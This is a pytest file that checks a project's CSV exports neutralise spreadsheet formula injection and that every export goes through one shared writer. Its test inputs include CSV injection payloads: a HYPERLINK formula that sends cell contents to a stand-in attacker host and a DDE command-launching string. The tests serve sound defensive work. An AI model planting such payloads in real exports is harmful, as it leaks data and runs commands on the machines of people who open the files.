"""CSV exports neutralise formulas (OWASP CSV injection), and every export uses the one
writer."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from boernesag.lib.exports import SafeCsvWriter, csv_response, neutralise

SRC = Path(__file__).resolve().parents[2]
WRITES_CSV = re.compile(r"^(import csv|from csv import)|csv\.(writer|DictWriter)\(", re.M)


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://angriber.example/?x="&A1,"Klik her")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(typed):
    assert neutralise(typed) == "'" + typed
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(["Team Nord", typed])
    cell = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))[1]
    assert cell == "'" + typed


@pytest.mark.parametrize(
    "value,expected",
    [
        ("Team Nord", "Team Nord"),
        ("33,3", "33,3"),
        ("a=b", "a=b"),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, ""),
    ],
)
def test_ordinary_values_are_unchanged(value, expected):
    assert neutralise(value) == expected


def test_csv_response_is_a_neutralised_download():
    response = csv_response("eksport.csv", ["Navn", "Antal"], [["=1+1", 3]])
    assert response["Content-Disposition"] == 'attachment; filename="eksport.csv"'
    assert response["Cache-Control"] == "no-store"
    text = response.content.decode("utf-8-sig")
    assert text.splitlines() == ["Navn;Antal", "'=1+1;3"]


def test_no_export_writes_csv_without_the_shared_writer():
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "exports.py"
        and WRITES_CSV.search(path.read_text())
    ]
    assert offenders == [], f"use boernesag.lib.exports for CSV: {offenders}"
